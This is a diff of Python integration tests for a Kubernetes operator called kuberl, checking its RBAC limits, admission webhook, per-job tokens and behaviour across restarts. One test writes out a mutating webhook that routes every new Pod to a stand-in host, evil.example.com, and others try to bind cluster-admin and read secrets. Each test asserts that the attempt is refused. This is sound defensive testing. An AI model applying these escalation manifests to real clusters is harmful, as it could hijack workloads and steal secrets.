@@ -7,19 +7,27 @@ operator using, or as an access review that says yes where it must say no.
 """
 
 import json
+import secrets
 import ssl
 import time
 import urllib.error
 import urllib.request
+from collections.abc import Iterator
 from typing import Any
 
 import pytest
 
 from kuberl.runtime.status_publisher import KubernetesStatusPublisher
-from tests.integration.chart.conftest import Installation
+from tests.integration.chart.conftest import Installation, create_namespace, service_account_token, webhook_answers
 from tests.integration.envtest import ControlPlane, wait_until
 
 pytestmark = pytest.mark.integration
+
+ADMISSION = "admissionregistration.k8s.io"
+WEBHOOKS = f"/apis/{ADMISSION}/v1/validatingwebhookconfigurations"
+MERGE_PATCH = "application/merge-patch+json"
+#: The finalizer kopf put on every RLJob while the operator had a timer handler (kuberl before #13).
+KOPF_FINALIZER = "kopf.zalando.org/KopfFinalizerMarker"
 
 
 def granted_verbs(installation: Installation) -> set[tuple[str, str, str]]:
@@ -88,9 +96,11 @@ def call(cp: ControlPlane, token: str, method: str, path: str, body: Any = None,
     return json.loads(text) if text else None
 
 
-def refused_status(cp: ControlPlane, token: str, method: str, path: str, body: Any = None) -> int:
+def refused_status(
+    cp: ControlPlane, token: str, method: str, path: str, body: Any = None, content_type: str = ""
+) -> int:
     with pytest.raises(urllib.error.HTTPError) as refusal:
-        call(cp, token, method, path, body)
+        call(cp, token, method, path, body, content_type)
     return refusal.value.code
 
 
@@ -106,6 +116,10 @@ def allowed(cp: ControlPlane, token: str, namespace: str | None, verb: str, reso
     }
     answer = call(cp, token, "POST", "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews", review)
     return bool(answer["status"]["allowed"])
+
+
+def configmap_path(namespace: str, name: str = "") -> str:
+    return f"/api/v1/namespaces/{namespace}/configmaps" + (f"/{name}" if name else "")
 
 
 def rljob_path(namespace: str, name: str = "") -> str:
@@ -162,7 +176,9 @@ def live_a_whole_life(cp: ControlPlane, ns: str, name: str) -> None:
     assert first["metadata"]["ownerReferences"][0]["name"] == name
     cluster = first["spec"]["rayClusterSpec"]
     pods = [cluster["headGroupSpec"]["template"]["spec"]] + [g["template"]["spec"] for g in cluster["workerGroupSpecs"]]
-    assert {pod.get("serviceAccountName") for pod in pods} == {"kuberl-runtime"}  # the chart's runtime account
+    assert {pod.get("serviceAccountName") for pod in pods} == {f"{name}-runtime"}  # the job's own account
+    policy = cp.request("GET", f"/apis/networking.k8s.io/v1/namespaces/{ns}/networkpolicies/{name}-ray")
+    assert policy["spec"]["podSelector"] == {"matchLabels": {"kuberl.io/job": name}}  # accepted by the API server
     configmap = cp.request("GET", f"/api/v1/namespaces/{ns}/configmaps/{name}-spec")
     assert "tiny://demo" in configmap["data"]["rljob.yaml"]
     assert status_of(cp, ns, name)["rayJobName"] == f"{name}-0"
@@ -173,6 +189,26 @@ def live_a_whole_life(cp: ControlPlane, ns: str, name: str) -> None:
     # Usually within a second; when the resync timer is mid-run as the deletion arrives, kopf releases its
     # finalizer at its next cancellation poll (settings.background.cancellation_polling: 1 s in handlers.py).
     wait_until(lambda: rljob(cp, ns, name) is None, timeout=30, what="the RLJob deleted by its TTL")
+
+
+def upgrade_an_old_job(cp: ControlPlane, ns: str, name: str) -> None:
+    """An RLJob as earlier kuberl versions left it, with kopf's finalizer: the operator removes it."""
+    manifest = {
+        "apiVersion": "kuberl.io/v1alpha1",
+        "kind": "RLJob",
+        "metadata": {"name": name, "finalizers": [KOPF_FINALIZER]},
+        "spec": {
+            "models": {"actor": {"path": "tiny://demo"}},
+            "data": {"train": "/data/train.jsonl"},
+            "reward": {"function": "tiny_task"},
+        },
+    }
+    cp.request("POST", rljob_path(ns), manifest)
+    wait_until(
+        lambda: not (rljob(cp, ns, name) or {}).get("metadata", {}).get("finalizers"),
+        timeout=30,
+        what="the finalizer of an earlier version removed",
+    )
 
 
 def test_operator_runs_a_job_through_a_restart_to_success_and_ttl_with_the_charts_rbac(
@@ -189,6 +225,7 @@ def test_operator_uses_every_verb_it_is_granted_and_is_refused_none(
 ):
     """The API server's audit log of the operator's own requests (not these tests' probes) against the chart's rules."""
     live_a_whole_life(control_plane, installation.jobs_namespace, "audited")
+    upgrade_an_old_job(control_plane, installation.jobs_namespace, "upgraded")
     granted = granted_verbs(installation)
     user = f"system:serviceaccount:{installation.release_namespace}:{installation.service_account}"
 
@@ -202,18 +239,49 @@ def test_operator_uses_every_verb_it_is_granted_and_is_refused_none(
     assert granted - answers.keys() == set()
 
 
-def test_operator_registers_its_webhook_and_it_refuses_a_bad_rljob(
+def test_the_charts_webhook_reaches_the_operator_and_refuses_a_bad_rljob(
     control_plane: ControlPlane, installation: Installation
 ):
-    path = f"/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/{installation.webhook_configuration}"
+    path = f"{WEBHOOKS}/{installation.webhook_configuration}"
     (webhook,) = control_plane.request("GET", path)["webhooks"]
-    assert webhook["name"] == f"validate-rljob.{installation.webhook_configuration}"
-    assert webhook["clientConfig"]["caBundle"]
+    assert webhook["clientConfig"]["service"]["name"] == "kuberl-webhook"  # through the Service, as in a cluster
     with pytest.raises(urllib.error.HTTPError) as refusal:
         create_rljob(
             control_plane, installation.jobs_namespace, "needs-critic", algorithm={"advantageEstimator": "gae"}
         )
     assert "spec.models.critic" in refusal.value.read().decode()
+
+
+def test_operator_may_not_register_a_mutating_webhook(control_plane: ControlPlane, installation: Installation):
+    """One that rewrote every Pod in the cluster would make the operator's token cluster-admin."""
+    mutating = {
+        "apiVersion": "admissionregistration.k8s.io/v1",
+        "kind": "MutatingWebhookConfiguration",
+        "metadata": {"name": "pods.evil.example.com"},
+        "webhooks": [
+            {
+                "name": "pods.evil.example.com",
+                "admissionReviewVersions": ["v1"],
+                "sideEffects": "None",
+                "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods"]}],
+                "clientConfig": {"url": "https://evil.example.com/mutate"},
+            }
+        ],
+    }
+    path = "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations"
+    assert refused_status(control_plane, installation.operator_token, "POST", path, mutating) == 403
+
+
+def test_operator_may_not_widen_its_own_webhook_to_secrets(control_plane: ControlPlane, installation: Installation):
+    path = f"{WEBHOOKS}/{installation.webhook_configuration}"
+    (webhook,) = control_plane.request("GET", path)["webhooks"]
+    rule = {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE", "UPDATE"], "resources": ["secrets"]}
+    widened = {"webhooks": [{**webhook, "rules": [*webhook["rules"], rule]}]}
+    status = refused_status(control_plane, installation.operator_token, "PATCH", path, widened, MERGE_PATCH)
+    assert status == 403
+    assert not allowed(
+        control_plane, installation.operator_token, None, "create", "validatingwebhookconfigurations", ADMISSION
+    )
 
 
 def test_operator_logs_no_permission_problem(control_plane: ControlPlane, installation: Installation):
@@ -251,7 +319,9 @@ def test_operator_is_refused_what_it_does_not_need(
 
 def test_operator_may_not_write_rbac_or_webhooks_of_others(control_plane: ControlPlane, installation: Installation):
     token, ns = installation.operator_token, installation.jobs_namespace
-    assert not allowed(control_plane, token, ns, "create", "rolebindings", "rbac.authorization.k8s.io")
+    for verb in ("patch", "update", "delete", "bind", "escalate"):  # it may only create, within what it holds
+        assert not allowed(control_plane, token, ns, verb, "rolebindings", "rbac.authorization.k8s.io")
+        assert not allowed(control_plane, token, ns, verb, "roles", "rbac.authorization.k8s.io")
     assert not allowed(control_plane, token, None, "create", "clusterrolebindings", "rbac.authorization.k8s.io")
     other = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingWebhookConfiguration"}
     path = "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/someone-else.example.com"
@@ -267,30 +337,157 @@ def test_namespace_scope_operator_sees_no_other_namespace(control_plane: Control
     assert allowed(control_plane, token, installation.jobs_namespace, "patch", "configmaps")
 
 
-def test_runtime_publishes_progress_with_its_service_account(control_plane: ControlPlane, installation: Installation):
+@pytest.fixture
+def cleanups(control_plane: ControlPlane) -> Iterator[list[str]]:
+    """Paths of cluster-scoped objects a test made, deleted after it."""
+    paths: list[str] = []
+    yield paths
+    for path in paths:
+        control_plane.request("DELETE", path)
+
+
+def job_token(cp: ControlPlane, installation: Installation, name: str) -> str:
+    """The token the kubelet would mount into the head pod of job `name` (its own account, made by the operator),
+    once the operator has made the account and the ConfigMap it reports into (as before the pods start)."""
+    ns = installation.jobs_namespace
+    account = f"/api/v1/namespaces/{ns}/serviceaccounts/{name}-runtime"
+    wait_until(lambda: get_or_none(cp, account), timeout=30, what=f"the ServiceAccount {name}-runtime")
+    wait_until(lambda: get_or_none(cp, configmap_path(ns, f"{name}-progress")), timeout=30, what="the report ConfigMap")
+    return service_account_token(cp, ns, f"{name}-runtime")
+
+
+def test_the_runtime_publishes_progress_with_its_jobs_token_and_the_operator_shows_it(
+    control_plane: ControlPlane, installation: Installation
+):
     ns = installation.jobs_namespace
     create_rljob(control_plane, ns, "publishing")
-    wait_until(lambda: status_of(control_plane, ns, "publishing").get("phase"), timeout=30, what="a phase")
+    token_file = installation.folder / "publishing-token"
+    token_file.write_text(job_token(control_plane, installation, "publishing"))
     publisher = KubernetesStatusPublisher(
         "publishing",
         ns,
         control_plane.server,
-        installation.runtime_token_file,
+        token_file,
         ssl.create_default_context(cafile=str(control_plane.ca_file)),
+        configmap="publishing-progress",
         min_interval=0.0,
     )
-    publisher.publish({"step": 5, "totalSteps": 60}, {"rewardMean": 0.25}, None)
+    last = {"step": 5, "uri": "s3://bucket/publishing/step-5", "time": "2026-01-01T00:00:00Z"}
+    publisher.publish({"step": 5, "totalSteps": 60}, {"rewardMean": 0.25}, last)
     publisher.close(timeout=10)
-    status = status_of(control_plane, ns, "publishing")
-    assert status["progress"]["step"] == 5
-    assert status["metrics"]["rewardMean"] == 0.25
-    assert status["phase"]  # the operator's fields are untouched
+    status = wait_until(
+        lambda: (s := status_of(control_plane, ns, "publishing")).get("progress") and s,
+        timeout=30,
+        what="the report in the RLJob's status",
+    )
+    assert status["progress"] == {"step": 5, "totalSteps": 60, "epoch": 0}
+    assert status["metrics"] == {"rewardMean": 0.25}
+    assert status["lastCheckpoint"] == last
+    assert status["phase"] == "Starting"  # the operator's own
 
 
-def test_runtime_can_neither_read_nor_change_a_spec(control_plane: ControlPlane, installation: Installation):
-    token, ns = installation.runtime_token, installation.jobs_namespace
-    create_rljob(control_plane, ns, "guarded")
-    assert refused_status(control_plane, token, "GET", rljob_path(ns, "guarded")) == 403
-    assert not allowed(control_plane, token, ns, "patch", "rljobs", "kuberl.io")
-    assert not allowed(control_plane, token, ns, "get", "secrets")
-    assert not allowed(control_plane, token, ns, "create", "pods")
+def test_a_jobs_token_may_write_its_own_report_and_nothing_else(
+    control_plane: ControlPlane, installation: Installation
+):
+    """User code in a job's pods holds at most this token: it cannot reach a neighbour, nor any RLJob."""
+    cp, ns = control_plane, installation.jobs_namespace
+    for name in ("mine", "neighbour"):
+        create_rljob(cp, ns, name)
+        wait_until(lambda name=name: get_or_none(cp, configmap_path(ns, f"{name}-progress")), timeout=30, what="report")
+    token = job_token(cp, installation, "mine")
+    report = {"data": {"report.json": '{"progress": {"step": 1}}'}}
+    call(cp, token, "PATCH", configmap_path(ns, "mine-progress"), report, MERGE_PATCH)  # its own: allowed
+    refused = {
+        "a neighbour's report": ("PATCH", configmap_path(ns, "neighbour-progress"), report),
+        "its own RLJob's status": ("PATCH", rljob_path(ns, "mine") + "/status", {"status": {"phase": "Succeeded"}}),
+        "a neighbour's status": ("PATCH", rljob_path(ns, "neighbour") + "/status", {"status": {"phase": "Failed"}}),
+        "any RLJob": ("GET", rljob_path(ns, "mine"), None),
+        "the Ray token": ("GET", f"/api/v1/namespaces/{ns}/secrets/mine-ray-token", None),
+        "a new report": ("POST", configmap_path(ns), {"metadata": {"name": "mine-progress-2"}}),
+    }
+    answers = {what: refused_status(cp, token, m, path, body, MERGE_PATCH) for what, (m, path, body) in refused.items()}
+    assert answers == dict.fromkeys(refused, 403)
+    assert not allowed(cp, token, ns, "create", "pods")
+    assert not allowed(cp, token, ns, "delete", "configmaps")
+
+
+def test_the_operator_cannot_grant_more_than_it_holds_through_the_roles_it_creates(
+    control_plane: ControlPlane, installation: Installation, cleanups: list[str]
+):
+    token, ns = installation.operator_token, installation.jobs_namespace
+    reader = {
+        "apiVersion": "rbac.authorization.k8s.io/v1",
+        "kind": "Role",
+        "metadata": {"name": "secret-reader"},
+        "rules": [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get", "list"]}],
+    }
+    roles = f"/apis/rbac.authorization.k8s.io/v1/namespaces/{ns}"
+    assert refused_status(control_plane, token, "POST", f"{roles}/roles", reader) == 403
+    cluster_reader = {**reader, "kind": "ClusterRole", "metadata": {"name": f"{ns}-secret-reader"}}
+    try:  # an existing role that holds more than the operator (edit's rules come from aggregation, not run here)
+        control_plane.request("POST", "/apis/rbac.authorization.k8s.io/v1/clusterroles", cluster_reader)
+    except urllib.error.HTTPError as error:
+        assert error.code == 409  # the other scope's run made it
+    cleanups.append(f"/apis/rbac.authorization.k8s.io/v1/clusterroles/{ns}-secret-reader")
+    for cluster_role in (f"{ns}-secret-reader", "cluster-admin"):
+        binding = {
+            "apiVersion": "rbac.authorization.k8s.io/v1",
+            "kind": "RoleBinding",
+            "metadata": {"name": f"to-{cluster_role}"},
+            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": cluster_role},
+            "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": ns}],
+        }
+        assert refused_status(control_plane, token, "POST", f"{roles}/rolebindings", binding) == 403
+    assert refused_status(control_plane, token, "GET", f"/api/v1/namespaces/{ns}/secrets/anything") == 403
+
+
+def test_rljobs_carry_no_finalizer(control_plane: ControlPlane, installation: Installation):
+    ns = installation.jobs_namespace
+    create_rljob(control_plane, ns, "unfinalized")
+    wait_until(lambda: rayjob(control_plane, ns, "unfinalized-0"), timeout=30, what="the RayJob")
+    assert (rljob(control_plane, ns, "unfinalized") or {})["metadata"].get("finalizers") is None
+
+
+def test_while_the_operator_is_down_deletes_work_and_writes_wait_for_the_webhook(
+    control_plane: ControlPlane, installation: Installation
+):
+    """A clean stop leaves the webhook registered (nothing unvalidated gets in), and nothing wedges a delete."""
+    ns = installation.jobs_namespace
+    create_rljob(control_plane, ns, "outlived")
+    wait_until(lambda: rayjob(control_plane, ns, "outlived-0"), timeout=30, what="the RayJob")
+    before = control_plane.request("GET", f"{WEBHOOKS}/{installation.webhook_configuration}")
+    installation.running.stop()
+    try:
+        after = control_plane.request("GET", f"{WEBHOOKS}/{installation.webhook_configuration}")
+        assert after["webhooks"] == before["webhooks"]  # not purged by the shutdown
+        with pytest.raises(urllib.error.HTTPError) as refusal:  # an invalid spec cannot slip in meanwhile
+            create_rljob(control_plane, ns, "unchecked", algorithm={"advantageEstimator": "gae"})
+        assert "failed calling webhook" in refusal.value.read().decode()
+        control_plane.request("DELETE", rljob_path(ns, "outlived"))
+        wait_until(lambda: rljob(control_plane, ns, "outlived") is None, timeout=10, what="the RLJob deleted")
+    finally:
+        installation.running.start()
+    wait_until(lambda: webhook_answers(control_plane, ns), timeout=30, what="the webhook answering after the restart")
+    create_rljob(control_plane, ns, "after-restart")
+    wait_until(lambda: rayjob(control_plane, ns, "after-restart-0"), timeout=30, what="a job after the restart")
+
+
+def test_a_namespace_with_rljobs_deletes_while_the_operator_is_down(
+    control_plane: ControlPlane, installation: Installation
+):
+    if installation.scope != "cluster":
+        pytest.skip("needs an operator that watches a namespace created for the test")
+    ns = f"chart-gone-{secrets.token_hex(3)}"
+    create_namespace(control_plane, ns)
+    create_rljob(control_plane, ns, "doomed")
+    wait_until(lambda: rayjob(control_plane, ns, "doomed-0"), timeout=30, what="the RayJob")
+    installation.running.stop()
+    try:
+        control_plane.request("DELETE", f"/api/v1/namespaces/{ns}")
+        wait_until(
+            lambda: get_or_none(control_plane, f"/api/v1/namespaces/{ns}") is None,
+            timeout=60,
+            what=f"namespace {ns} gone",
+        )
+    finally:
+        installation.running.start()
